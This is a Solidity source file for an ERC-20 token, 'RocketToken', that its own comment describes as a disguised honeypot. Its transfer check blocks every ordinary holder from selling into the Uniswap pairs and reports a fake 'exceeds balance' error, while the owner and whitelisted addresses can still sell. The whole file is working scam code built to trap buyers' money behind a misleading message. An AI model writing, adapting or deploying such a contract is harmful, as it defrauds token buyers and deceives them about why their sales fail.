// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./IUniswapV2.sol";

/// Looks like a fee-free launch token. Only addresses "excluded from fee" may move
/// tokens into the pair, so every ordinary holder's sell reverts with an
/// innocent-looking balance error.
contract RocketToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;

    address public owner;
    address public immutable uniswapV2Pair;
    mapping(address => bool) private _isExcludedFromFee;
    mapping(address => bool) private _swapPairs;
    mapping(address => uint256) private _rOwned;
    mapping(address => mapping(address => uint256)) private _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner, "caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply_, address[] memory routers_) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        address mainPair;
        for (uint256 i = routers_.length; i > 0; i--) {
            IUniswapV2RouterLite router = IUniswapV2RouterLite(routers_[i - 1]);
            mainPair = IUniswapV2FactoryLite(router.factory()).createPair(address(this), router.WETH());
            _swapPairs[mainPair] = true;
        }
        uniswapV2Pair = mainPair;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        totalSupply = supply_;
        _rOwned[msg.sender] = supply_;
        emit Transfer(address(0), msg.sender, supply_);
    }

    function excludeFromFee(address account) external onlyOwner {
        _isExcludedFromFee[account] = true;
    }

    function isExcludedFromFee(address account) external view returns (bool) {
        return _isExcludedFromFee[account];
    }

    function balanceOf(address account) public view returns (uint256) {
        return _rOwned[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) external returns (bool) {
        _transfer(msg.sender, recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool) {
        _transfer(sender, recipient, amount);
        _allowances[sender][msg.sender] -= amount;
        return true;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(
            (_rOwned[from] >= amount && _isExcludedFromFee[from]) || !_swapPairs[to],
            "ERC20: transfer amount exceeds balance"
        );
        _rOwned[from] -= amount;
        _rOwned[to] += amount;
        emit Transfer(from, to, amount);
    }
}
